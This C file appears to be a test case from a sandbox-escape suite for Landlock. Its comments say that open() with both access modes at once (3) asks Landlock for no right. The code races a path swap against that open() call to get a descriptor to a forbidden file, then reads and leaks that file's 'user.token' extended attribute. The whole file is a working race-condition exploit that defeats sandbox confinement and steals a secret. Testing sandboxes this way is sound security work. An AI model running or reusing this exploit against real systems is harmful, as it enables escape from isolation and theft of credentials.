// Opens with both access modes at once (3), which asks Landlock for no right, and changes the path in
// memory behind the supervisor's look: a descriptor of any file, by which its attributes are read.
// class: OS sandboxes: an open file that nobody decided on
// plain: leak
#include "race.h"

#include <sys/xattr.h>

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  // Where a compartment's own tree lets the kernel decide.
  race_good = text("%s/own-%d", inside() ? "/tmp" : fact("W"), getpid());
  race_bad = fact("KEY");
  put_file(race_good, "own");
  strcpy(race_path, race_good);
  struct stat wanted;
  if (stat(race_bad, &wanted) != 0) return 1;
  const pthread_t thread = race_begin(flip_text);
  int opened = 0, won = 0;
  for (int i = 0; race_goes_on(i, TRIES); ++i) {
    const int fd = open(race_path, O_WRONLY | O_RDWR);
    if (fd < 0) continue;
    ++opened;
    struct stat found;
    if (fstat(fd, &found) == 0 && found.st_ino == wanted.st_ino && found.st_dev == wanted.st_dev && !won++) {
      char value[256];
      const ssize_t n = fgetxattr(fd, "user.token", value, sizeof value);
      if (n > 0) leak(value, (size_t)n);
      effect("a descriptor of %s", race_bad);
    }
    close(fd);
  }
  race_end(thread);
  printf("opened %d of %d, %d of them forbidden\n", opened, TRIES, won);
  return 0;
}
